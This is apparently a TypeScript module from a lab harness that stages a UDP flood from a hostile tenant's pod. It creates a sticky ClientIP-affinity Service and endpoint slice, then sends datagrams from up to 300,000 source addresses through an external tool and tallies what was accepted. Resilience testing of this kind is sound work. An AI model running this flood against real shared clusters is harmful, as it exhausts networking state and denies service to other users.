import { enterNamespace } from '../../../../lab/host/namespaces.ts';
import { run } from '../../../../lab/host/run.ts';
import { FLOOD_FROM, FLOOD_PORT } from '../names.ts';
import { type Attack, endpoints } from './attack.ts';
import type { Attacker } from './attacker.ts';

const TIMEOUT_SECONDS = 86_400;
const PER_SECOND = 20_000;
const DEADLINE_MS = 60_000;
const SERVICE = 'datagrams';
/** Chosen, so that the flood needs no rights to read it back. */
const CLUSTER_IP = '10.110.0.53';

/** Datagrams from many addresses to a sticky Service of its own, from a pod of the hostile user. */
export function floodAttack(of: { tool: string; podPath: string }): Attack {
  let target: Promise<void> | undefined;
  return {
    name: 'UDP flood',
    what: 'datagrams from 300,000 addresses to a sticky UDP Service of its own',
    // It exits after seconds: if it were killed, the number of datagrams would be unknown.
    run: async (on) => {
      target ??= createTarget(on);
      await target;
      const argv = [
        of.tool,
        'flood',
        `--to=${CLUSTER_IP}:${FLOOD_PORT}`,
        `--from=${FLOOD_FROM}`,
        `--count=${on.limits.floodSources}`,
        `--per-second=${PER_SECOND}`,
      ] as const;
      const flooding = run(enterNamespace(of.podPath, [...argv]), { deadlineMs: DEADLINE_MS });
      const result = JSON.parse(await flooding) as { sent: number };
      on.tally.accepted += result.sent;
    },
  };
}

async function createTarget(on: Attacker): Promise<void> {
  const ports = [{ protocol: 'UDP', port: FLOOD_PORT, targetPort: FLOOD_PORT }];
  await on.createService(SERVICE, {
    clusterIP: CLUSTER_IP,
    ports,
    sessionAffinity: 'ClientIP',
    sessionAffinityConfig: { clientIP: { timeoutSeconds: TIMEOUT_SECONDS } },
  });
  await on.createSlice({
    name: SERVICE,
    service: SERVICE,
    endpoints: endpoints({ block: 11, count: 3, from: 0 }),
    ports: [{ name: '', protocol: 'UDP', port: FLOOD_PORT }],
  });
}
